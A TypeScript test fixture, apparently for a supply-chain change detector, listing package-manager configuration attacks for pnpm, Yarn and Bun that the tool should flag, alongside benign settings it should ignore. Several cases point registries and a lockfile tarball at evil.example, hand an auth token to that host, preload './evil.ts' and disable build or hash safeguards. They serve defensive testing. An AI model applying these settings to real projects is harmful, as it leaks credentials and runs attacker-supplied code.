import { APP, PNPM_LOCK } from "./app.ts";
import type { Attack, AttackClass, Files } from "./attack.ts";
import { hashOf, lockWith, manifestWith } from "./npm-app.ts";
import { changed } from "./other-locks.ts";

const WORKFLOW = ".github/workflows/release.yml";
const PNPM = "pnpm-workspace.yaml";
const YARN = ".yarnrc.yml";
const BUN = "bunfig.toml";
const PNPM_10: Files = {
  "package-lock.json": null,
  "package.json": manifestWith({ packageManager: "pnpm@10.20.0" }),
  "pnpm-lock.yaml": PNPM_LOCK,
};

/** A line of a file that must never pass unseen. */
function setting(name: string, file: string, text: string, real: string, rule?: string): Attack {
  return {
    name,
    base: PNPM_10,
    change: { [file]: `${text}\n` },
    expect: "loud",
    at: file,
    real,
    ...(rule === undefined ? {} : { rule }),
  };
}

/** A command or variable of the release workflow that must never pass unseen. */
function command(name: string, install: string, real: string): Attack {
  const change = { [WORKFLOW]: changed(APP[WORKFLOW], ["- run: npm ci", install]) };
  return { name, change, expect: "loud", at: WORKFLOW, real };
}

const IN_REPOSITORY = "What a change lays there is taken for what was fetched. Not tried.";
const VARIABLE = "The variable stands for the setting, and wins over files. Not tried.";

export const INSTALL_SETTINGS: AttackClass = {
  name: "settings of pnpm, Yarn and Bun",
  decides:
    "Files, flags and variables say whose scripts run, where packages are kept and fetched from, and which code the manager runs.",
  attacks: [
    setting(
      "hears an empty list of what is never built",
      PNPM,
      "neverBuiltDependencies: []",
      "pnpm 10.34 ran all scripts with it; without, it ran none.",
      "build/install-script-approved",
    ),
    setting("hears where pnpm keeps packages", PNPM, "storeDir: ./vendor/store", IN_REPOSITORY),
    setting("hears where pnpm lays packages", PNPM, "virtualStoreDir: vendor/.pnpm", IN_REPOSITORY),
    setting(
      "hears of lockfiles of branches",
      PNPM,
      "gitBranchLockfile: true",
      "pnpm reads pnpm-lock.main.yaml then. Not tried.",
    ),
    setting("hears a time of nothing", PNPM, "minimumReleaseAge: '0'", "It holds back nothing. Not tried."),
    setting(
      "hears a registry for all packages",
      PNPM,
      "registries:\n  default: https://npm.evil.example/",
      "By pnpm's manual. Not tried.",
    ),
    setting(
      "hears that pnpm trusts the lockfile",
      PNPM,
      "trustLockfile: true",
      "By the notes of pnpm 11.3: it asks no registry how old a locked release is. Not tried.",
    ),
    setting("hears where Yarn keeps packages", YARN, "cacheFolder: ./vendor/cache", IN_REPOSITORY),
    setting(
      "hears another lockfile",
      YARN,
      "lockfileFilename: other.lock",
      "Yarn 2 and 3 read that one. Not tried.",
    ),
    setting(
      "hears credentials for a registry of somebody else's",
      YARN,
      "npmRegistries:\n  //evil.example:\n    npmAuthToken: x",
      "Yarn hands them to that registry. Not tried.",
    ),
    setting("hears where Bun keeps packages", BUN, '[install.cache]\ndir = "./vendor"', IN_REPOSITORY),
    setting(
      "hears a registry in a table",
      BUN,
      '[install.registry]\nurl = "https://evil.example/"',
      "Bun asks it for all packages. Not tried.",
      "packages/source-replaced",
    ),
    setting("hears code that Bun runs first", BUN, 'preload = ["./evil.ts"]', "Bun runs it before any file."),
    {
      name: "hears a hook for pnpm that changes alone, where a setting names it",
      base: { ...PNPM_10, [PNPM]: "pnpmfile:\n  - tools/hooks.cjs\n", "tools/hooks.cjs": "1;\n" },
      change: { "tools/hooks.cjs": "2;\n" },
      expect: "loud",
      rule: "build/installer-extended",
      real: "pnpm runs each file of the list.",
    },
    {
      name: "hears a patch that changes alone",
      base: {
        ...PNPM_10,
        [PNPM]: "patchedDependencies:\n  left@1.0.0: patches/left.patch\n",
        "patches/left.patch": "- one\n+ two\n",
      },
      change: { "patches/left.patch": "- one\n+ three\n" },
      expect: "loud",
      rule: "packages/source-replaced",
      real: "pnpm applies it as it is; a frozen one stops at the other hash. Not tried.",
    },
    command(
      "hears a variable of pnpm",
      "- run: pnpm install\n        env:\n          pnpm_config_registry: https://evil.example/",
      VARIABLE,
    ),
    command(
      "hears a variable of Yarn",
      "- run: yarn install\n        env:\n          YARN_NPM_REGISTRY_SERVER: https://evil.example/",
      VARIABLE,
    ),
    command(
      "hears a variable of Bun",
      "- run: bun install\n        env:\n          BUN_CONFIG_REGISTRY: https://evil.example/",
      VARIABLE,
    ),
    command(
      "hears a flag in another spelling",
      "- run: pnpm install --config.dangerouslyAllowAllBuilds=true",
      "pnpm takes settings as flags, in both spellings. Not tried.",
    ),
    command(
      "hears an approval by a command",
      "- run: bun install\n      - run: bun pm trust --all",
      "It runs the scripts that waited. Not tried.",
    ),
    command(
      "hears settings of Bun that lie elsewhere",
      "- run: bun install --config=evil.toml",
      "Not tried.",
    ),
    command("hears of a lockfile elsewhere", "- run: pnpm install --lockfile-dir tools", "Not tried."),
    command("hears hashes that Bun doesn't check", "- run: bun install --no-verify", "Not tried."),
    {
      name: "hears another address in the half of a lockfile that npm 6 reads",
      change: {
        "package-lock.json": lockWith(
          {},
          {
            lockfileVersion: 2,
            dependencies: {
              left: {
                version: "1.0.0",
                resolved: "https://evil.example/left.tgz",
                integrity: hashOf("A"),
              },
              vite: { version: "5.4.0", integrity: hashOf("B"), dev: true },
            },
          },
        ),
      },
      expect: "loud",
      at: "package-lock.json",
      real: "npm 6 fetches `resolved` of the tree. Not tried.",
    },
    {
      name: "hears of a package that only the other half has",
      change: {
        "package-lock.json": lockWith(
          {},
          {
            lockfileVersion: 2,
            dependencies: { vite: { version: "5.4.0", integrity: hashOf("B"), dev: true } },
          },
        ),
      },
      expect: "loud",
      at: "package-lock.json",
      real: "npm 6 resolves what the tree lacks. Not tried.",
    },
    {
      name: "says nothing of the public registry by pnpm's name for it, nor of a lockfile that isn't trusted",
      base: PNPM_10,
      change: { [PNPM]: "registries:\n  default: https://registry.npmjs.org/\n\ntrustLockfile: false\n" },
      expect: "silent",
      real: "Both are the default.",
    },
    {
      name: "says nothing of the same halves",
      base: { ".npmrc": "lockfile-version=2\n" },
      change: {
        "package-lock.json": lockWith(
          {},
          {
            lockfileVersion: 2,
            dependencies: {
              left: { version: "1.0.0", integrity: hashOf("A") },
              vite: { version: "5.4.0", integrity: hashOf("B"), dev: true },
            },
          },
        ),
      },
      expect: "silent",
      real: "npm 6 to 12 install the same.",
    },
    {
      name: "says nothing of a refusal that pnpm now has under another name",
      base: { ...PNPM_10, [PNPM]: "ignoredBuiltDependencies:\n  - esbuild\n" },
      change: { [PNPM]: "allowBuilds:\n  esbuild: false\n" },
      expect: "silent",
      real: "pnpm 10 and 11 run no script of it.",
    },
    {
      name: "says nothing of settings that decide nothing",
      base: PNPM_10,
      change: {
        [PNPM]: "autoInstallPeers: true\nnodeLinker: hoisted\nsharedWorkspaceLockfile: true\n",
        [BUN]: '[install]\nexact = true\nlinker = "hoisted"\n',
        [YARN]: "nodeLinker: node-modules\nenableTelemetry: false\ndefaultProtocol: 'npm:'\n",
      },
      expect: "silent",
      real: "They decide what is laid where, or are what is taken anyway.",
    },
    {
      name: "says nothing of a list of the never built for pnpm 9",
      base: { ...PNPM_10, "package.json": manifestWith({ packageManager: "pnpm@9.15.0" }) },
      change: {
        "package.json": manifestWith({
          packageManager: "pnpm@9.15.0",
          pnpm: { neverBuiltDependencies: ["core-js"] },
        }),
      },
      expect: "silent",
      real: "pnpm 9 runs all other scripts anyway.",
    },
  ],
};
